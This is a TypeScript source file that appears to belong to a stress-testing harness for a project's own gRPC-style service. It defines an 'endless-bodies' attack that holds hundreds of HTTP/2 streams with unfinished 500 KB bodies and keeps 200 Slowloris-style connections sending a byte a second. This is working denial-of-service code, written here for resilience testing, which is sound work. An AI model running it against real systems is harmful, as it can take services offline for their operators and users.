import { type ClientHttp2Session, connect } from "node:http2";
import { AuthService } from "#gen/lucky/auth/v1/auth_pb.js";
import { MessageService } from "#gen/lucky/message/v1/message_pb.js";
import type { Attack } from "../target/attack.ts";
import { inParallel, keepDoing, pause } from "../target/loops.ts";
import type { Target } from "../target/target.ts";

const HTTP2_CONNECTIONS = 3;
const STREAMS = 900;
const BODY = Buffer.alloc(500_000, "x");
const SLOW_CONNECTIONS = 200;
const SLOW_INTERVAL_MS = 1_000;
/** Pause before a body or a connection that the server refused is replaced, ms. */
const REPLACE_MS = 1_000;

/** A method for users and a public one. */
const PATHS = [`/${MessageService.typeName}/Acknowledge`, `/${AuthService.typeName}/Login`];

export const endlessBodies: Attack = {
  name: "endless-bodies",
  summary: `${HTTP2_CONNECTIONS} HTTP/2 connections with ${STREAMS} bodies of 500 KB that never end, and ${SLOW_CONNECTIONS} bodies at one byte a second`,
  prepare: (target) => (signal) =>
    Promise.all([
      inParallel(HTTP2_CONNECTIONS, () =>
        keepDoing(target, signal, () => holdStreams(target, signal)),
      ),
      inParallel(SLOW_CONNECTIONS, (nth) =>
        keepDoing(target, signal, () => sendSlowly(target, signal, PATHS[nth % PATHS.length]!)),
      ),
    ]),
};

/** Holds streams on one connection until it closes. Node opens as many at once as the server allows. */
async function holdStreams(target: Target, signal: AbortSignal): Promise<void> {
  const { tally } = target;
  const session = connect(target.url, { createConnection: () => target.connect() });
  session.on("error", (error) => tally.failed(error));
  session.on("goaway", (code) => tally.answered(`GOAWAY ${code}`));
  const closed = new Promise<void>((resolve) => session.once("close", resolve));
  void inParallel(STREAMS, async (nth) => {
    while (!session.closed && !session.destroyed) {
      tally.add("streams");
      const code = await holdStream(target, session, PATHS[nth % PATHS.length]!);
      if (signal.aborted) return;
      tally.answered(`stream closed with ${code}`);
      await pause(REPLACE_MS, signal);
    }
  }).catch((error) => tally.failed(error));
  await closed;
  await pause(REPLACE_MS, signal);
}

/** Sends a body without its end. Resolves with the code of the stream's end. */
function holdStream({ tally }: Target, session: ClientHttp2Session, path: string): Promise<number> {
  const stream = session.request({
    ":method": "POST",
    ":path": path,
    "content-type": "application/proto",
  });
  stream.on("response", ({ ":status": status }) => tally.answered(String(status)));
  stream.on("error", () => {});
  stream.resume();
  stream.write(BODY);
  return new Promise((resolve) => stream.once("close", () => resolve(stream.rstCode ?? 0)));
}

/** Sends a body at one byte a second. Resolves when the server has answered or closed the connection. */
async function sendSlowly(target: Target, signal: AbortSignal, path: string): Promise<void> {
  const socket = target.connect();
  const ended = new Promise<void>((resolve) => {
    socket.once("data", (chunk) => {
      target.tally.answered(chunk.toString("latin1").split(" ", 2)[1] ?? "");
      resolve();
    });
    socket.once("close", () => resolve());
  });
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/proto\r\n` +
      `Content-Length: ${BODY.length}\r\n\r\n`,
  );
  const timer = setInterval(() => socket.write("x"), SLOW_INTERVAL_MS);
  target.tally.add("slow_bodies");
  await ended;
  clearInterval(timer);
  socket.destroy();
  await pause(REPLACE_MS, signal);
}
